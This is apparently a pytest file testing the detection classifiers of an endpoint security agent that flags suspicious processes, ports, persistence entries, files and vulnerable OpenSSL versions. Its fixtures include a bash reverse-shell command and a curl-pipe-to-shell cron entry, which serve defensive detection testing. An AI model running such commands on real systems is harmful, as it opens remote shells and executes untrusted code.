"""Unit tests for detection/classifier.py and detection/local_rules.py.

Classifiers are pure: every test builds an item, classifies it against the
built-in DetectionRules and checks the verdict.
"""

import pytest
from conftest import make_connection, make_process

from soc_agent.core.exceptions import ClassificationError
from soc_agent.detection.classifier import (
    _evaluate, classify_connection, classify_file, classify_malware,
    classify_persistence, classify_process, classify_software,
)
from soc_agent.detection.local_rules import DetectionRules, LocalRule, path_under
from soc_agent.schemas.events import Severity
from soc_agent.schemas.snapshots import FileArtifact, PersistencePointItem, SoftwareItem

# ---------------------------------------------------------------------------
# TestPathUnder
# ---------------------------------------------------------------------------


class TestPathUnder:
    def test_case_insensitive_windows_prefix(self):
        assert path_under('c:\\users\\public\\evil.exe', 'C:\\Users\\Public')

    def test_respects_path_boundary(self):
        assert not path_under('/tmpfiles/tool', '/tmp')

    def test_exact_directory_matches(self):
        assert path_under('/tmp/', '/tmp')

    def test_empty_path_never_matches(self):
        assert not path_under(None, '/tmp')


# ---------------------------------------------------------------------------
# TestClassifyProcess
# ---------------------------------------------------------------------------


class TestClassifyProcess:
    def test_benign_process(self, rules):
        verdict = classify_process(make_process(name='sshd', path='/usr/sbin/sshd'), rules)
        assert not verdict.suspicious
        assert verdict.reasons == ()

    def test_executable_in_suspicious_directory_is_high(self, rules):
        item = make_process(name='updater.exe', path='C:\\Users\\Public\\updater.exe')
        verdict = classify_process(item, rules)
        assert verdict.suspicious
        assert verdict.severity == Severity.HIGH
        assert 'suspicious directory' in verdict.reason
        assert '.exe' in verdict.reason

    def test_name_and_directory_reasons_both_kept(self, rules):
        verdict = classify_process(make_process(name='psexec', path='/tmp/psexec'), rules)
        assert verdict.severity == Severity.HIGH
        assert len(verdict.reasons) == 2
        assert "psexec" in verdict.reasons[0]
        assert "/tmp" in verdict.reasons[1]

    def test_name_match_is_case_insensitive_substring(self, rules):
        verdict = classify_process(make_process(name='MimiKatz64.exe', path='/opt/x'), rules)
        assert verdict.suspicious

    def test_first_match_sets_severity(self, rules):
        item = make_process(name='worker', path='/opt/worker', cpu_percent=99.0,
                            command_line='bash -i >& /dev/tcp/1.2.3.4/4444 0>&1')
        verdict = classify_process(item, rules)
        assert verdict.severity == Severity.HIGH
        assert any('High CPU' in r for r in verdict.reasons)

    def test_high_cpu_alone_is_medium(self, rules):
        verdict = classify_process(make_process(name='worker', path='/opt/worker', cpu_percent=95.0), rules)
        assert verdict.severity == Severity.MEDIUM

    def test_unsigned_outside_system_dirs(self, rules):
        item = make_process(name='tool.exe', path='D:\\apps\\tool.exe', signature_status='NotSigned')
        verdict = classify_process(item, rules)
        assert verdict.severity == Severity.MEDIUM

    def test_unsigned_inside_system_dirs_ignored(self, rules):
        item = make_process(name='svc.exe', path='C:\\Windows\\System32\\svc.exe', signature_status='NotSigned')
        assert not classify_process(item, rules).suspicious


# ---------------------------------------------------------------------------
# TestClassifyConnection
# ---------------------------------------------------------------------------


class TestClassifyConnection:
    def test_suspicious_port_is_high(self, rules):
        verdict = classify_connection(make_connection(remote_port=4444), rules)
        assert verdict.severity == Severity.HIGH
        assert '4444' in verdict.reason

    def test_ordinary_https_is_clean(self, rules):
        assert not classify_connection(make_connection(remote_port=443), rules).suspicious

    def test_listening_socket_ignored(self, rules):
        item = make_connection(remote_ip='', remote_port=0, local_port=4444, state='LISTEN')
        assert not classify_connection(item, rules).suspicious

    def test_shell_with_established_connection(self, rules):
        item = make_connection(remote_port=443, process_name='bash')
        verdict = classify_connection(item, rules)
        assert verdict.severity == Severity.MEDIUM

    def test_configured_ports_replace_defaults(self, config):
        config.suspicious_ports = [8081]
        custom = DetectionRules.from_config(config)
        assert classify_connection(make_connection(remote_port=8081), custom).suspicious
        assert not classify_connection(make_connection(remote_port=4444), custom).suspicious


# ---------------------------------------------------------------------------
# TestClassifyPersistence / TestClassifyFile
# ---------------------------------------------------------------------------


class TestClassifyPersistence:
    def test_reference_to_temp_directory(self, rules):
        item = PersistencePointItem(key_path='HKCU\\...\\Run\\Updater', content='C:\\Windows\\Temp\\u.exe')
        assert classify_persistence(item, rules).severity == Severity.HIGH

    def test_download_cradle(self, rules):
        item = PersistencePointItem(key_path='/etc/cron.d/job', content='* * * * * root curl http://x/a | sh')
        assert classify_persistence(item, rules).suspicious

    def test_plain_entry_is_clean(self, rules):
        item = PersistencePointItem(key_path='/etc/cron.d/logrotate', content='0 0 * * * root /usr/sbin/logrotate')
        assert not classify_persistence(item, rules).suspicious


class TestClassifyFile:
    def test_small_executable_is_medium(self, rules):
        item = FileArtifact(path='/home/u/tool.exe', size=1024, modified_time=0.0, tags=('executable',))
        verdict = classify_file(item, rules)
        assert verdict.severity == Severity.MEDIUM

    def test_large_executable_outside_suspicious_dirs_is_clean(self, rules):
        item = FileArtifact(path='/home/u/tool.exe', size=50000, modified_time=0.0, tags=('executable',))
        assert not classify_file(item, rules).suspicious

    def test_script_in_temp(self, rules):
        item = FileArtifact(path='/tmp/run.sh', size=500, modified_time=0.0, tags=('script',))
        assert classify_file(item, rules).severity == Severity.HIGH

    def test_suspicious_name(self, rules):
        item = FileArtifact(path='/home/u/keylogger.txt', size=500, modified_time=0.0)
        assert "keylogger" in classify_file(item, rules).reason


# ---------------------------------------------------------------------------
# TestClassifyMalware / TestClassifySoftware
# ---------------------------------------------------------------------------


class TestClassifyMalware:
    def test_fixed_confidence_surfaced(self, rules):
        item = FileArtifact(path='/home/u/a.sh', size=10, modified_time=0.0,
                            tags=('script', 'suspicious_content', 'pattern:/dev/tcp/'))
        verdict = classify_malware(item, rules)
        assert verdict.confidence == 0.7
        assert verdict.severity == Severity.HIGH

    def test_untagged_file_is_clean(self, rules):
        item = FileArtifact(path='/home/u/a.sh', size=10, modified_time=0.0, tags=('script',))
        assert not classify_malware(item, rules).suspicious


class TestClassifySoftware:
    @pytest.mark.parametrize('version', ['1.0.1', '1.0.1f', '1.0.1-3ubuntu'])
    def test_prefix_version_match(self, rules, version):
        verdict = classify_software(SoftwareItem(name='openssl', version=version), rules)
        assert verdict.suspicious
        assert verdict.matches[0].cve_id == 'CVE-2014-0160'
        assert verdict.confidence == 0.8

    @pytest.mark.parametrize('version', ['1.0.10', '1.0.1g', '3.0.2'])
    def test_non_matching_versions(self, rules, version):
        assert not classify_software(SoftwareItem(name='openssl', version=version), rules).suspicious

    def test_unknown_package(self, rules):
        assert not classify_software(SoftwareItem(name='htop', version='3.0'), rules).suspicious


# ---------------------------------------------------------------------------
# TestEvaluate
# ---------------------------------------------------------------------------


class TestEvaluate:
    def test_failing_rule_raises_classification_error(self, rules):
        def broken(item, data):
            raise KeyError('boom')

        with pytest.raises(ClassificationError, match="broken_rule"):
            _evaluate([LocalRule('broken_rule', Severity.HIGH, broken)], object(), rules)
